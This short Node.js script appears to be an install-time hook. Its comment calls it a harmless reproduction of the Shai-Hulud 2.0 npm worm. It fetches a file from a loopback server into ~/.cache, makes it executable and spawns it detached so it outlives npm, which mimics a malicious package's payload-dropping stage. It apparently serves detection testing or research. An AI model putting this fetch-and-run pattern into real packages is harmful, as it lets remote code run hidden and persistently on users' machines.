// Harmless reproduction of Shai-Hulud 2.0: fetch a "runtime" (a copy of
// /bin/sleep) from a loopback server into ~/.cache, then start it detached
// so it outlives npm.
const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const cp = require('child_process');
const dst = path.join(os.homedir(), '.cache', 'rt', 'bun');
fs.mkdirSync(path.dirname(dst), { recursive: true });
http.get('http://127.0.0.1:8081/payload', (res) => {
  const out = fs.createWriteStream(dst, { mode: 0o755 });
  res.pipe(out);
  out.on('finish', () => {
    out.close(() => {
      fs.chmodSync(dst, 0o755);
      cp.spawn(dst, ['120'], { detached: true, stdio: 'ignore' }).unref();
    });
  });
}).on('error', () => {});
